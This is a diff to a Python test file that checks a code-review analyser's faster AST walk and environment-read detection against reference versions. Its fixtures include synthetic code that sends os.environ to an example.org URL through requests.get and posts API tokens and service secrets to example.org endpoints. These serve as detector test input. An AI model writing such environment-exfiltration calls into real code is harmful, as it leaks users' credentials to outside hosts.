@@ -7,7 +7,9 @@ answer of the slow path it replaces:
 - ``rx.Prefilter``: a shell line tried against thirty expressions in one RE2 set pass (an expression on
   ``re`` through its ASCII screen), each expression then run only where the set saw it;
 - ``rx.Screen``: an expression that finds nothing in a whole file is not searched on its lines;
-- ``shell.shell_tokens``: a linear tokenizer giving ``shlex``'s tokens (and its errors).
+- ``shell.shell_tokens``: a linear tokenizer giving ``shlex``'s tokens (and its errors);
+- ``pycode.walk``: ``ast.walk``'s nodes in ``ast.walk``'s order from one list, and environment reads
+  looked up only on the node types that can hold one.
 
 Besides the properties, every analyser is run with the shortcuts switched off (every screen and set
 answering "may match") on synthetic skills and, where the data is on this machine, on the slowest wild
@@ -17,6 +19,7 @@ are compared, never their content.
 
 from __future__ import annotations
 
+import ast
 import re
 import shlex
 import tarfile
@@ -28,7 +31,7 @@ from pathlib import Path
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from nervous_plugins.review_policy import classifier, jscode, prose, rx, shell, text
+from nervous_plugins.review_policy import classifier, jscode, prose, pycode, rx, shell, text
 
 from nervous.kernel.records import ScanContext, SkillBundle, SkillFile, SkillRef
 
@@ -41,16 +44,34 @@ _SETTINGS = settings(max_examples=60, deadline=None, suppress_health_check=[Heal
                                                                              HealthCheck.filter_too_much])
 
 
+def _env_names_reference(subs: list[ast.AST], env_vars: dict[str, set[str]]) -> set[str]:
+    """The Python detector's environment reads as first written: every node asked."""
+    out: set[str] = set()
+    for sub in subs:
+        name = pycode._env_name(sub)
+        if name:
+            out.add(name)
+        elif isinstance(sub, ast.Name) and sub.id in env_vars:
+            out |= env_vars[sub.id]
+    return out
+
+
 @contextmanager
 def _shortcuts_off() -> Iterator[None]:
-    """Every screen and set answers "may match": each expression runs wherever the code asks for it."""
-    saved = rx.Screen.may_match, rx.Scanned.may_match
+    """Every screen and set answers "may match": each expression runs wherever the code asks for it;
+    the Python detector walks with ``ast.walk``, asks every node for an environment read and every
+    assignment whether it names the environment."""
+    saved = rx.Screen.may_match, rx.Scanned.may_match, pycode.walk, pycode._env_names_of, pycode.EnvironAssigns
     rx.Screen.may_match = lambda self, expr: True  # type: ignore[method-assign]
     rx.Scanned.may_match = lambda self, expr: True  # type: ignore[method-assign]
+    pycode.walk = lambda node: list(ast.walk(node))  # type: ignore[assignment]
+    pycode._env_names_of = _env_names_reference  # type: ignore[assignment]
+    pycode.EnvironAssigns = lambda assigns: assigns  # type: ignore[assignment,misc]
     try:
         yield
     finally:
-        rx.Screen.may_match, rx.Scanned.may_match = saved  # type: ignore[method-assign]
+        (rx.Screen.may_match, rx.Scanned.may_match, pycode.walk, pycode._env_names_of,  # type: ignore[method-assign]
+         pycode.EnvironAssigns) = saved  # type: ignore[misc]
 
 
 def _classified(b: SkillBundle) -> str:
@@ -263,6 +284,69 @@ def test_line_starts(s: str) -> None:
     assert classifier.line_starts(s) == [0] + [m.end() for m in re.finditer("\n", s)]
 
 
+# ------------------------------------------------------------------ the Python detector's walk
+
+
+def _stdlib_modules() -> list[Path]:
+    return sorted(Path(ast.__file__).parent.glob("*.py"))[:60]
+
+
+def test_walk_gives_ast_walks_nodes_in_its_order() -> None:
+    """On real modules (the standard library's own) and on the synthetic Python shape below."""
+    sources = [p.read_text(encoding="utf-8", errors="replace") for p in _stdlib_modules()]
+    sources += [_python_module(300), _python_with_nested_data(5, 20), "", "x = (yield)\n"]
+    checked = 0
+    for src in sources:
+        try:
+            tree = ast.parse(src)
+        except SyntaxError:
+            continue
+        for root in (tree, *tree.body[:20]):
+            mine, reference = pycode.walk(root), list(ast.walk(root))
+            assert len(mine) == len(reference)
+            assert all(a is b for a, b in zip(mine, reference))
+            checked += len(reference)
+    assert checked > 100_000
+
+
+def test_walk_is_faster_than_ast_walk() -> None:
+    trees = [ast.parse(p.read_text(encoding="utf-8", errors="replace")) for p in _stdlib_modules()[:30]]
+    t0 = time.process_time()
+    for t in trees:
+        pycode.walk(t)
+    mine = time.process_time() - t0
+    t0 = time.process_time()
+    for t in trees:
+        list(ast.walk(t))
+    reference = time.process_time() - t0
+    assert mine < reference * 1.1, (mine, reference)  # measured 0.6x
+
+
+def test_requests_built_from_the_environment_are_found_as_before() -> None:
+    """The per-name index of assignments against asking every assignment (the list form)."""
+    src = _python_module(60) + "\n".join([
+        "import os", "E = os.environ", "U = 'https://x.example.org/?' + str(E)", "V = U", "W = 'plain'",
+        "requests.get(U)", "requests.get(V + W)", "requests.get(W)", "requests.get(f'{os.environ}')"]) + "\n"
+    tree = ast.parse(src)
+    assigns = [n for n in ast.walk(tree) if isinstance(n, ast.Assign) and len(n.targets) == 1
+               and isinstance(n.targets[0], ast.Name)]
+    index = pycode.EnvironAssigns(assigns)
+    answers = []
+    for node in ast.walk(tree):
+        if isinstance(node, ast.Call) and node.args:
+            answers.append(pycode._carries_environment(node.args[0], index))
+            assert answers[-1] == pycode._carries_environment(node.args[0], assigns)
+    assert True in answers and False in answers
+
+
+def test_environment_reads_are_found_as_before() -> None:
+    tree = ast.parse(_python_module(200))
+    env_vars = {"TOKEN0": {"API_TOKEN_0"}, "row3": {"HOME"}}
+    for node in pycode.walk(tree):
+        subs = pycode.walk(node)
+        assert pycode._env_names_of(subs, env_vars) == _env_names_reference(subs, env_vars)
+
+
 # ------------------------------------------------------------------ whole analysers, shortcuts on and off
 
 
@@ -280,6 +364,22 @@ def _python_with_nested_data(depth: int, width: int) -> str:
     for _ in range(depth):
         inner = "{'a': " + inner + ", 'b': [1, 2, 3]}"
     return "import os\nTOKEN = os.environ.get('API_TOKEN')\nDATA = " + inner + "\nprint(len(DATA))\n"
+
+
+def _python_module(functions: int) -> str:
+    """A module of small functions reading the environment, calling the network and running processes."""
+    out = ["import os, subprocess, json", "import requests", "from pathlib import Path", ""]
+    for i in range(functions):
+        out += [f"TOKEN{i} = os.environ.get('API_TOKEN_{i}')",
+                f"def step{i}(rows, base='https://api{i % 5}.example.org/v1'):",
+                f"    key = os.getenv('SERVICE_SECRET_{i % 3}')",
+                f"    payload = {{'rows': rows[{i}:], 'token': TOKEN{i}, 'key': key}}",
+                f"    r = requests.post(base + '/items/{i}', json=payload, timeout={i % 30 + 1})",
+                f"    subprocess.run(['make', 'target{i}'], check=True)",
+                f"    Path('out/{i}.json').write_text(json.dumps([x for x in rows if x['n'] > {i}]))",
+                "    return r.status_code", ""]
+    out.append("print(json.dumps({'a': os.environ['API_TOKEN_1'], 'b': os.environ['SERVICE_SECRET_2']}))")
+    return "\n".join(out) + "\n"
 
 
 def _markdown_non_ascii(sections: int) -> str:
@@ -301,6 +401,7 @@ def _javascript(lines: int) -> str:
 _SHAPES = {
     "shell-script": lambda n: {"scripts/build.sh": _shell_script(n)},
     "python-nested-data": lambda n: {"tool.py": _python_with_nested_data(n // 20, 20)},
+    "python-module": lambda n: {"tool.py": _python_module(n // 4)},
     "markdown-non-ascii": lambda n: {"docs/guide.md": _markdown_non_ascii(n // 4)},
     "javascript": lambda n: {"scripts/run.mjs": _javascript(n)},
 }
